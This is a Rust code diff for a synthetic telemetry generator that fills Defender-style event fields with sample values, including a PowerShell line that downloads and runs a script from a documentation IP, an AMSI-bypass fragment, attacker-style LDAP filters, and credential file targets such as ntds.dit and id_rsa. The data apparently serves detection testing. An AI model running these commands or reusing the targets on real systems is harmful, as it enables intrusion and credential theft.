@@ -270,21 +270,25 @@ const TASKS: &[&str] = &[
 
 const GROUPS: &[&str] = &["Administrators", "Remote Desktop Users", "Backup Operators", "Users"];
 
+fn v(r: &R, salt: u64, items: &[&'static str]) -> &'static str {
+    items[(r.h(salt) % items.len() as u64) as usize]
+}
+
 /// The `AdditionalFields` of a DeviceEvents row whose action is `action` (`None`: no fields).
 pub(super) fn device_event_fields(r: &R, action: &str) -> Option<Value> {
     let audit = action.ends_with("Audited");
     let f = match action {
         "AntivirusDetection" | "AntivirusReport" | "AntivirusDetectionActionType" => json!({
-            "ThreatName": r.pick(201, THREATS),
+            "ThreatName": v(r, 201, THREATS),
             "WasRemediated": !r.h(202).is_multiple_of(4),
             "WasExecutingWhileDetected": r.h(203).is_multiple_of(3),
-            "Action": r.pick(204, &["quarantine", "remove", "clean", "allow", "block"]),
-            "ReportSource": r.pick(205, &["Real-Time Protection", "Scheduled Scan", "On-Demand Scan", "IOAV"]),
+            "Action": v(r, 204, &["quarantine", "remove", "clean", "allow", "block"]),
+            "ReportSource": v(r, 205, &["Real-Time Protection", "Scheduled Scan", "On-Demand Scan", "IOAV"]),
             "Container": "",
         }),
         "AmsiScriptDetection" | "ScriptContent" => json!({
-            "Description": r.pick(201, THREATS),
-            "ScriptContent": r.pick(206, &["IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "Get-ADUser -Filter *"]),
+            "Description": v(r, 201, THREATS),
+            "ScriptContent": v(r, 206, &["IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "Get-ADUser -Filter *"]),
         }),
         a if a.starts_with("AntivirusScan") => json!({
             "Domain": "CONTOSO", "ScanTypeIndex": (r.h(207) % 3) as i64 + 1,
@@ -292,26 +296,26 @@ pub(super) fn device_event_fields(r: &R, action: &str) -> Option<Value> {
             "ScanId": format!("{{{}}}", super::guid(r.h(209)).to_uppercase()),
         }),
         a if a.starts_with("Asr") || a.starts_with("ControlledFolderAccess") => json!({
-            "IsAudit": audit, "RuleId": r.pick(210, ASR_RULES),
+            "IsAudit": audit, "RuleId": v(r, 210, ASR_RULES),
         }),
         a if a.starts_with("ExploitGuardNetworkProtection")
             || a == "NetworkProtectionUserBypassEvent" =>
         {
             json!({
                 "IsAudit": audit,
-                "ResponseCategory": r.pick(211, &["CustomBlockList", "CustomPolicy", "WebContentFiltering", "CmdCtrl", "Malicious", "Phishing"]),
-                "DisplayName": r.pick(212, &["Phishing", "Malicious", "Gambling", "Custom indicator", "Command and Control"]),
-                "Uri": r.pick(213, URIS),
+                "ResponseCategory": v(r, 211, &["CustomBlockList", "CustomPolicy", "WebContentFiltering", "CmdCtrl", "Malicious", "Phishing"]),
+                "DisplayName": v(r, 212, &["Phishing", "Malicious", "Gambling", "Custom indicator", "Command and Control"]),
+                "Uri": v(r, 213, URIS),
             })
         }
         a if a.starts_with("ExploitGuard") => json!({"IsAudit": audit}),
         a if a.starts_with("SmartScreen") => json!({
-            "Experience": r.pick(214, &["Malicious", "Phishing", "Untrusted", "CustomBlockList", "CustomPolicy"]),
-            "Action": "UserOverride", "Uri": r.pick(213, URIS),
+            "Experience": v(r, 214, &["Malicious", "Phishing", "Untrusted", "CustomBlockList", "CustomPolicy"]),
+            "Action": "UserOverride", "Uri": v(r, 213, URIS),
             // A warning and the user's override of it share the device's activity id.
             "ActivityId": super::guid(super::str_seed(r.device().name) ^ (r.h(290) % 3)),
         }),
-        "PowerShellCommand" => json!({"Command": r.pick(215, PS_COMMANDS)}),
+        "PowerShellCommand" => json!({"Command": v(r, 215, PS_COMMANDS)}),
         "AntivirusTroubleshootModeEvent" => {
             let on = r.h(280).is_multiple_of(2);
             json!({
@@ -327,8 +331,8 @@ pub(super) fn device_event_fields(r: &R, action: &str) -> Option<Value> {
         "DeviceBootAttestationInfo" => json!({
             "IsSecureBootOn": !r.h(282).is_multiple_of(8), "IsHvciOn": r.h(283).is_multiple_of(2),
             "IsVsmOn": !r.h(284).is_multiple_of(3), "IsIommuOn": true, "TpmVersion": "2.0",
-            "SystemGuardSecurityLevel": r.pick(285, &["0", "1", "2"]), "IsDriverCodeIntegrityEnforced": true,
-            "IsElamDriverLoaded": true, "ValidationResult": r.pick(286, &["Success", "Success", "Failed"]),
+            "SystemGuardSecurityLevel": v(r, 285, &["0", "1", "2"]), "IsDriverCodeIntegrityEnforced": true,
+            "IsElamDriverLoaded": true, "ValidationResult": v(r, 286, &["Success", "Success", "Failed"]),
         }),
         "AntivirusDefinitionsUpdated"
         | "AntivirusDefinitionsUpdateFailed"
@@ -338,14 +342,14 @@ pub(super) fn device_event_fields(r: &R, action: &str) -> Option<Value> {
             "EngineVersion": "1.1.24090.11", "ProductVersion": "4.18.24090.11",
         }),
         "OtherAlertRelatedActivity" => json!({
-            "Description": r.pick(287, &["Suspicious process injection was observed", "A process accessed the memory of lsass.exe", "An unsigned binary was executed from a temporary folder", "Microsoft Defender Antivirus quarantined a file found in the user's Downloads folder"]),
+            "Description": v(r, 287, &["Suspicious process injection was observed", "A process accessed the memory of lsass.exe", "An unsigned binary was executed from a temporary folder", "Microsoft Defender Antivirus quarantined a file found in the user's Downloads folder"]),
         }),
         "ScheduledTaskCreated"
         | "ScheduledTaskUpdated"
         | "ScheduledTaskDeleted"
         | "ScheduledTaskEnabled"
         | "ScheduledTaskDisabled" => {
-            let name = r.pick(216, TASKS);
+            let name = v(r, 216, TASKS);
             json!({
                 "TaskName": name,
                 "TaskContent": format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task><Actions><Exec><Command>{}</Command></Exec></Actions></Task>", super::init_cmd_text(r)),
@@ -357,44 +361,44 @@ pub(super) fn device_event_fields(r: &R, action: &str) -> Option<Value> {
         | "UsbDriveUnmounted"
         | "UsbDriveUnmount"
         | "UsbDriveDriveLetterChanged" => json!({
-            "DriveLetter": r.pick(217, &["E:", "F:", "G:"]),
-            "ProductName": r.pick(218, &["SanDisk Ultra", "Kingston DataTraveler 3.0", "WD My Passport 25E2", "Generic Flash Disk"]),
+            "DriveLetter": v(r, 217, &["E:", "F:", "G:"]),
+            "ProductName": v(r, 218, &["SanDisk Ultra", "Kingston DataTraveler 3.0", "WD My Passport 25E2", "Generic Flash Disk"]),
             "SerialNumber": super::hex(r.h(219), 12).to_uppercase(),
-            "Manufacturer": r.pick(220, &["SanDisk", "Kingston", "Western Digital", "Generic"]),
+            "Manufacturer": v(r, 220, &["SanDisk", "Kingston", "Western Digital", "Generic"]),
             "Volume": format!("{{{}}}", super::guid(r.h(221))), "LoggedOnUsers": r.acct.name,
         }),
         "PnpDeviceConnected" | "PnpDeviceAllowed" | "PnpDeviceBlocked" => json!({
-            "ClassName": r.pick(222, &["USB", "DiskDrive", "WPD", "Bluetooth", "Image", "Media"]),
-            "DeviceDescription": r.pick(223, &["USB Mass Storage Device", "Apple iPhone", "Logitech USB Receiver", "Generic Bluetooth Adapter"]),
+            "ClassName": v(r, 222, &["USB", "DiskDrive", "WPD", "Bluetooth", "Image", "Media"]),
+            "DeviceDescription": v(r, 223, &["USB Mass Storage Device", "Apple iPhone", "Logitech USB Receiver", "Generic Bluetooth Adapter"]),
             "DeviceId": format!(r"USB\VID_0781&PID_5581\{}", super::hex(r.h(224), 12).to_uppercase()),
             "VendorIds": "USB\\VID_0781&PID_5581",
         }),
         "LdapSearch" => json!({
-            "SearchFilter": r.pick(225, &["(objectCategory=computer)", "(&(objectCategory=person)(objectClass=user)(servicePrincipalName=*))", "(&(objectClass=user)(userAccountControl:1.2.840.113556.1.4.803:=4194304))", "(objectClass=trustedDomain)", "(&(objectCategory=group)(cn=Domain Admins))", "(sAMAccountName=jsmith)"]),
-            "ScopeOfSearch": r.pick(226, &["SubTree", "Base", "OneLevel"]),
+            "SearchFilter": v(r, 225, &["(objectCategory=computer)", "(&(objectCategory=person)(objectClass=user)(servicePrincipalName=*))", "(&(objectClass=user)(userAccountControl:1.2.840.113556.1.4.803:=4194304))", "(objectClass=trustedDomain)", "(&(objectCategory=group)(cn=Domain Admins))", "(sAMAccountName=jsmith)"]),
+            "ScopeOfSearch": v(r, 226, &["SubTree", "Base", "OneLevel"]),
             "DistinguishedName": "DC=contoso,DC=com", "AttributeList": "[\"samaccountname\",\"serviceprincipalname\"]",
         }),
         "NamedPipeEvent" => json!({
-            "PipeName": r.pick(227, &[r"\Device\NamedPipe\lsarpc", r"\Device\NamedPipe\srvsvc", r"\Device\NamedPipe\PSEXESVC", r"\Device\NamedPipe\atsvc", r"\Device\NamedPipe\mojo.1234.5678"]),
-            "FileOperation": r.pick(228, &["File opened", "File created"]), "NamedPipeEnd": "Client",
+            "PipeName": v(r, 227, &[r"\Device\NamedPipe\lsarpc", r"\Device\NamedPipe\srvsvc", r"\Device\NamedPipe\PSEXESVC", r"\Device\NamedPipe\atsvc", r"\Device\NamedPipe\mojo.1234.5678"]),
+            "FileOperation": v(r, 228, &["File opened", "File created"]), "NamedPipeEnd": "Client",
             "DesiredAccess": 1_180_063, "ShareMode": 3,
         }),
         "DnsQueryResponse" => json!({
-            "DnsQueryString": r.pick(229, &["login.microsoftonline.com", "raw.githubusercontent.com", "pastebin.com", "x3k9q.ngrok-free.app", "dc01.contoso.com"]),
+            "DnsQueryString": v(r, 229, &["login.microsoftonline.com", "raw.githubusercontent.com", "pastebin.com", "x3k9q.ngrok-free.app", "dc01.contoso.com"]),
             "DnsQueryResult": [{"DnsQueryType": 1, "DnsQueryTypeString": "A", "DnsQueryResultRecord": "203.0.113.50"}],
         }),
         "BrowserLaunchedToOpenUrl" | "AppGuardBrowseToUrl" => {
-            json!({"Name": "browser", "Uri": r.pick(213, URIS)})
+            json!({"Name": "browser", "Uri": v(r, 213, URIS)})
         }
         "UserAccountCreated" | "UserAccountDeleted" | "UserAccountModified" => {
-            json!({"TargetUserName": r.pick(230, &["backdoor", "helpdesk2", "svc_sql", "temp_admin"])})
+            json!({"TargetUserName": v(r, 230, &["backdoor", "helpdesk2", "svc_sql", "temp_admin"])})
         }
         "UserAccountAddedToLocalGroup" | "UserAccountRemovedFromLocalGroup" => json!({
-            "GroupName": r.pick(231, GROUPS), "GroupDomainName": "BUILTIN",
-            "GroupSid": r.pick(232, &["S-1-5-32-544", "S-1-5-32-555", "S-1-5-32-551", "S-1-5-32-545"]),
+            "GroupName": v(r, 231, GROUPS), "GroupDomainName": "BUILTIN",
+            "GroupSid": v(r, 232, &["S-1-5-32-544", "S-1-5-32-555", "S-1-5-32-551", "S-1-5-32-545"]),
         }),
         "ServiceInstalled" => json!({
-            "ServiceName": r.pick(233, &["PSEXESVC", "UpdaterSvc", "AnyDesk", "MpKsl1a2b3c", "TeamViewer"]),
+            "ServiceName": v(r, 233, &["PSEXESVC", "UpdaterSvc", "AnyDesk", "MpKsl1a2b3c", "TeamViewer"]),
             "ServiceAccount": "LocalSystem", "ServiceType": "user mode service", "ServiceStartType": 2,
         }),
         "ProcessCreatedUsingWmiQuery" | "RemoteWmiOperation" => json!({
@@ -409,27 +413,27 @@ pub(super) fn device_event_fields(r: &R, action: &str) -> Option<Value> {
             || a == "MemoryRemoteProtect" =>
         {
             json!({
-                "TargetProcess": r.pick(235, &["lsass.exe", "explorer.exe", "svchost.exe", "notepad.exe"]),
+                "TargetProcess": v(r, 235, &["lsass.exe", "explorer.exe", "svchost.exe", "notepad.exe"]),
                 "TotalBytesCopied": (r.h(236) % 65_536) as i64, "DesiredAccess": 0x1410,
             })
         }
         "FirewallInboundConnectionBlocked"
         | "FirewallOutboundConnectionBlocked"
         | "FirewallInboundConnectionToAppBlocked" => json!({
-            "Profiles": r.pick(237, &["Domain", "Private", "Public"]),
+            "Profiles": v(r, 237, &["Domain", "Private", "Public"]),
             "Direction": if action.contains("Outbound") { "Outbound" } else { "Inbound" },
         }),
         "TamperingAttempt" => json!({
-            "TamperingAction": r.pick(238, &["RegistryModification", "ServiceStop", "ProcessTermination"]),
-            "Status": r.pick(239, &["Blocked", "Audited"]),
-            "Target": r.pick(240, &["HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring", "WinDefend", "MsMpEng.exe"]),
+            "TamperingAction": v(r, 238, &["RegistryModification", "ServiceStop", "ProcessTermination"]),
+            "Status": v(r, 239, &["Blocked", "Audited"]),
+            "Target": v(r, 240, &["HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring", "WinDefend", "MsMpEng.exe"]),
         }),
         "UntrustedWifiConnection" => {
-            json!({"SSID": r.pick(241, &["Free_Airport_WiFi", "CoffeeShop-Guest", "Hotel Lobby"]), "AuthenticationAlgorithm": "Open", "Reason": "Wi-Fi network open"})
+            json!({"SSID": v(r, 241, &["Free_Airport_WiFi", "CoffeeShop-Guest", "Hotel Lobby"]), "AuthenticationAlgorithm": "Open", "Reason": "Wi-Fi network open"})
         }
         "RemoteDesktopConnection" => json!({"RemoteDeviceName": r.device_after(2).name}),
         "SensitiveFileRead" => {
-            json!({"FileName": r.pick(242, &["Login Data", "Cookies", "key3.db", "ntds.dit", "id_rsa"])})
+            json!({"FileName": v(r, 242, &["Login Data", "Cookies", "key3.db", "ntds.dit", "id_rsa"])})
         }
         "AuditPolicyModification" => {
             json!({"AuditPolicyChanges": "%%8448", "SubcategoryGuid": "{0CCE922B-69AE-11D9-BED3-505054503030}"})
@@ -438,13 +442,13 @@ pub(super) fn device_event_fields(r: &R, action: &str) -> Option<Value> {
             json!({"DataDescription": "Google Chrome", "OperationType": "SPCryptUnprotect"})
         }
         "DriverLoad" => {
-            json!({"DriverName": r.pick(243, &["RTCore64.sys", "procexp152.sys", "WdFilter.sys", "gdrv.sys"])})
+            json!({"DriverName": v(r, 243, &["RTCore64.sys", "procexp152.sys", "WdFilter.sys", "gdrv.sys"])})
         }
         "ShellLinkCreateFileEvent" => {
             json!({"ShellLinkIconPath": "%SystemRoot%\\System32\\shell32.dll", "ShellLinkWorkingDirectory": "C:\\Users\\Public"})
         }
         "BluetoothPolicyTriggered" | "RemovableStoragePolicyTriggered" | "PrintJobBlocked" => {
-            json!({"PolicyRuleId": super::guid(r.h(244)), "Accesses": r.pick(245, &["Read", "Write", "Execute"])})
+            json!({"PolicyRuleId": super::guid(r.h(244)), "Accesses": v(r, 245, &["Read", "Write", "Execute"])})
         }
         _ => return None,
     };
@@ -458,31 +462,31 @@ pub(super) fn network_fields(r: &R, action: &str) -> Option<Value> {
     let f = match action {
         "HttpConnectionInspected" => json!({
             "direction": dir,
-            "host": r.pick(251, &["raw.githubusercontent.com", "198.51.100.7", "update.example-cdn.net", "pastebin.com", "ctldl.windowsupdate.com"]),
-            "method": r.pick(252, &["GET", "GET", "POST", "PUT"]),
-            "uri": r.pick(253, &["/payload.bin", "/raw/8xkR2pLq", "/msdownload/update/v3/static/trustedr/en/authrootstl.cab", "/api/v1/beacon", "/index.php?id=42"]),
-            "user_agent": r.pick(254, &["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "Microsoft-CryptoAPI/10.0", "curl/8.9.1", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3996", "python-requests/2.32.3", "Microsoft BITS/7.8"]),
-            "status_code": r.pick(255, &["200", "200", "404", "302"]).parse::<i64>().unwrap_or(200),
+            "host": v(r, 251, &["raw.githubusercontent.com", "198.51.100.7", "update.example-cdn.net", "pastebin.com", "ctldl.windowsupdate.com"]),
+            "method": v(r, 252, &["GET", "GET", "POST", "PUT"]),
+            "uri": v(r, 253, &["/payload.bin", "/raw/8xkR2pLq", "/msdownload/update/v3/static/trustedr/en/authrootstl.cab", "/api/v1/beacon", "/index.php?id=42"]),
+            "user_agent": v(r, 254, &["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "Microsoft-CryptoAPI/10.0", "curl/8.9.1", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3996", "python-requests/2.32.3", "Microsoft BITS/7.8"]),
+            "status_code": v(r, 255, &["200", "200", "404", "302"]).parse::<i64>().unwrap_or(200),
             "request_body_len": (r.h(256) % 4096) as i64, "response_body_len": (r.h(257) % 2_000_000) as i64,
             "version": "1.1",
         }),
         "DnsConnectionInspected" => json!({
             "direction": dir,
-            "query": r.pick(258, &["login.microsoftonline.com", "x3k9q.ngrok-free.app", "dc01.contoso.com", "aGVsbG8.example-cdn.net", "pastebin.com"]),
-            "qtype_name": r.pick(259, &["A", "AAAA", "TXT", "SRV"]), "rcode_name": "NOERROR",
+            "query": v(r, 258, &["login.microsoftonline.com", "x3k9q.ngrok-free.app", "dc01.contoso.com", "aGVsbG8.example-cdn.net", "pastebin.com"]),
+            "qtype_name": v(r, 259, &["A", "AAAA", "TXT", "SRV"]), "rcode_name": "NOERROR",
             "answers": ["203.0.113.50"], "uid": super::hex(r.h(260), 18),
         }),
         "SslConnectionInspected" => json!({
             "direction": dir,
-            "server_name": r.pick(261, &["login.microsoftonline.com", "github.com", "x3k9q.ngrok-free.app", "api.telegram.org", "outlook.office365.com"]),
-            "version": r.pick(262, &["TLSv12", "TLSv13", "TLSv10"]),
+            "server_name": v(r, 261, &["login.microsoftonline.com", "github.com", "x3k9q.ngrok-free.app", "api.telegram.org", "outlook.office365.com"]),
+            "version": v(r, 262, &["TLSv12", "TLSv13", "TLSv10"]),
             "ja3": super::hex(r.h(263) % 8, 32), "ja3s": super::hex(r.h(264) % 8, 32),
             "established": true, "cipher": "TLS_AES_256_GCM_SHA384",
         }),
         "SshConnectionInspected" => json!({
             "direction": dir, "auth_success": !r.h(265).is_multiple_of(3),
             "auth_attempts": (r.h(266) % 6) as i64 + 1,
-            "client": r.pick(267, &["SSH-2.0-OpenSSH_for_Windows_9.5", "SSH-2.0-PuTTY_Release_0.81", "SSH-2.0-libssh2_1.11.0"]),
+            "client": v(r, 267, &["SSH-2.0-OpenSSH_for_Windows_9.5", "SSH-2.0-PuTTY_Release_0.81", "SSH-2.0-libssh2_1.11.0"]),
             "server": "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10", "version": 2,
         }),
         "IcmpConnectionInspected" | "FtpConnectionInspected" | "SmtpConnectionInspected" => json!({
@@ -490,7 +494,7 @@ pub(super) fn network_fields(r: &R, action: &str) -> Option<Value> {
             "resp_bytes": (r.h(269) % 10_000) as i64, "duration": "00:00:00.0150000",
         }),
         "NetworkSignatureInspected" => json!({
-            "SignatureName": r.pick(270, &["SSH", "RDP", "SMB", "HTTP_Client", "HTTP_Server", "DNS_Request", "Kerberos", "LDAP", "SSL", "FTP", "RDP_Brute_Force", "Log4j_Exploit_Attempt"]),
+            "SignatureName": v(r, 270, &["SSH", "RDP", "SMB", "HTTP_Client", "HTTP_Server", "DNS_Request", "Kerberos", "LDAP", "SSL", "FTP", "RDP_Brute_Force", "Log4j_Exploit_Attempt"]),
             "SignatureMatchedContent": "", "SamplePacketContent": "",
         }),
         "ConnectionSuccess" | "ConnectionAcknowledged" | "InboundConnectionAccepted"
